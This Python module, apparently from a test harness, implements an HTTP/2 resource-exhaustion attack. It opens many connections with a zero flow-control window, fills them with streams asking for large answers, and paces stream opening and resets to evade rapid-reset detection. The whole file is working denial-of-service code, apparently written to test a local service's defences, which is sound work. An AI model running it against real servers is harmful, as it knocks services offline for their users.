"""The attacker over HTTP/2: asks for large answers on many streams, and lets the service send nothing."""

import itertools
import socket
import threading

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

from bodies import dear_requests

CONNECTIONS, STREAMS = 8, 100
# Streams that a connection opens at a time, a second apart at the least. A client that opens and resets
# streams more quickly is closed as an attacker of another kind.
AT_A_TIME = 25


class Client:
    """A connection over HTTP/2; `window` is the number of bytes that the service may send on each stream."""

    def __init__(self, service, window, timeout):
        self.socket = socket.create_connection(service.address, timeout)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.h2 = h2.connection.H2Connection(config)
        if window is not None:
            values = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
            self.h2.local_settings = h2.settings.Settings(client=True, initial_values=values)
        self.h2.initiate_connection()
        self.flush()

    def flush(self):
        self.socket.sendall(self.h2.data_to_send())

    def send(self, method, path, body=None):
        """Sends a request on a new stream, and returns the number of the stream."""
        stream = self.h2.get_next_available_stream_id()
        fields = {":method": method, ":path": path, ":scheme": "http", ":authority": "localhost"}
        self.h2.send_headers(stream, list(fields.items()), end_stream=body is None)
        if body is not None:
            self.h2.send_data(stream, body, end_stream=True)
        self.flush()
        return stream

    def events(self):
        """The next events from the service; none if the timeout passes."""
        try:
            data = self.socket.recv(65536)
        except TimeoutError:
            return []
        if not data:
            raise ConnectionError("the service closed the connection")
        events = self.h2.receive_data(data)
        self.flush()
        return events

    def reset(self, stream):
        self.h2.reset_stream(stream, error_code=8)
        self.flush()

    def close(self):
        self.socket.close()


def hungry_streams(service, stop, counts):
    requests = dear_requests()
    threads = [
        threading.Thread(target=connections, args=(service, stop, counts, requests[k % 2 :]), daemon=True)
        for k in range(CONNECTIONS)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def connections(service, stop, counts, requests):
    """Keeps one connection full of streams, and renews the connection when the service closes it."""
    wanted = itertools.cycle(requests)
    while not stop.wait(0.5):
        client = None
        try:
            client = Client(service, window=0, timeout=1)
            fill(client, stop, counts, wanted)
        except (OSError, h2.exceptions.ProtocolError):
            pass
        finally:
            if client:
                client.close()


def fill(client, stop, counts, wanted):
    open_streams = set()
    while not stop.is_set():
        most = min(STREAMS, client.h2.remote_settings.max_concurrent_streams)
        for _ in range(min(AT_A_TIME, most - len(open_streams))):
            open_streams.add(client.send(*next(wanted)))
            counts["streams"] += 1
        refused = set()
        for event in client.events():
            if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                open_streams.discard(event.stream_id)
            elif isinstance(event, h2.events.ResponseReceived) and (":status", "200") not in event.headers:
                refused.add(event.stream_id)
            elif isinstance(event, h2.events.ConnectionTerminated):
                return
        for stream in refused & open_streams:
            client.reset(stream)
            open_streams.discard(stream)
        if refused:
            stop.wait(1)
